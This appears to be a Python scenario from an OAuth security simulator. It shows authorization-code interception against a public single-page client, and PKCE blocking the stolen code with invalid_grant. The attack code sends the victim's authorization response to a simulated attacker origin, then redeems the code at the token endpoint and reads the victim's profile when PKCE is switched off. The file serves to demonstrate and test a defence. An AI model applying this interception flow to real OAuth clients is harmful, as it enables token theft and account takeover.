"""code-interception: a malicious app on the victim's device receives the authorization
response of a public client (RFC 7636 §1), and redeems the code. PKCE stops it.

The victim uses the single-page app (public client demo-spa: no secret). Its authorization
response is a redirect to its redirect URI, and a malicious app that registered the same URI
on the device (a custom scheme, a loopback port) receives it: here the victim's browser
delivers the response to the attacker's server. The attacker redeems the code at the token
endpoint as demo-spa, which needs no secret. With PKCE the code is bound to a
code_challenge whose code_verifier never left the app: the attacker has none and gets
invalid_grant. Without PKCE (a public client that sends no challenge, accepted for this
run), the attacker gets tokens and reads the victim's profile.
"""

from __future__ import annotations

import secrets

from sim import defences
from sim.attacker import Attacker
from sim.parties import ATTACKER, AUTHORIZATION_SERVER
from sim.scenarios.attack_common import (
    SPA,
    AttackScenario,
    Mark,
    error_of,
    on_attacker_origin,
    pkce_pair,
    query_param,
    spa_authorization_url,
    spa_redirect_uri,
)
from sim.scenarios.base import ScenarioError, log_in_and_consent


class CodeInterception(AttackScenario):
    name = "code-interception"
    description = "A malicious app on the device receives a public client's code (PKCE)"
    defence = defences.PKCE
    defence_text = (
        "PKCE binds the code to a code_challenge whose code_verifier only the real app holds, "
        "so an intercepted code cannot be redeemed (invalid_grant)."
    )
    rfc = "RFC 7636 §1, §4.6; RFC 9700 §2.1.1"

    def attack(self, sim, flow: str, insecure: bool, attacker: Attacker):
        victim = sim.user_agent(flow)
        victim.get(sim.client_url + "/spa")  # the victim opens the single-page app
        _, challenge = pkce_pair()  # the verifier stays in the real app
        url = spa_authorization_url(sim, secrets.token_urlsafe(16), None if insecure else challenge)
        redirect_uri = spa_redirect_uri(sim)
        last = log_in_and_consent(victim, victim.get(url), stop_at=redirect_uri)
        response_url = victim.location(last) or ""
        if not query_param(response_url, "code"):
            raise ScenarioError(f"no code in the authorization response ({last.status_code})")
        # The malicious app, not the SPA, receives the redirect.
        victim.get(on_attacker_origin(response_url, sim.attacker_url))
        leaked = attacker.loot("leak")
        code = leaked[-1]["params"].get("code", "") if leaked else ""
        redeemed = attacker.http.post(
            sim.authorization_server_url + "/token",
            data={
                "grant_type": "authorization_code",
                "code": code,
                "redirect_uri": redirect_uri,
                "client_id": SPA.client_id,
            },
            timeout=10,
        )
        profile = None
        if redeemed.status_code == 200:
            profile = attacker.http.get(
                sim.resource_server_url + "/api/profile",
                headers={"Authorization": f"Bearer {redeemed.json()['access_token']}"},
                timeout=10,
            )
        read_as = profile.json().get("username") if profile is not None and profile.ok else None
        evidence = {
            "challenge_sent": not insecure,
            "code_intercepted": bool(code),
            "token_status": redeemed.status_code,
            "token_error": error_of(redeemed) or None,
            "api_status": profile.status_code if profile is not None else None,
            "attacker_read_profile_of": read_as,
        }
        mark = Mark(
            ATTACKER,
            AUTHORIZATION_SERVER,
            "POST",
            "/token",
            self.marker(
                insecure,
                "PKCE: the code was issued for a code_challenge; no code_verifier, so "
                "invalid_grant",
                "PKCE: no code_challenge was sent, so the server cannot tell the app that "
                "asked for the code from the one redeeming it",
            ),
        )
        return evidence, read_as == "alice", [mark]


SCENARIOS = [CodeInterception()]
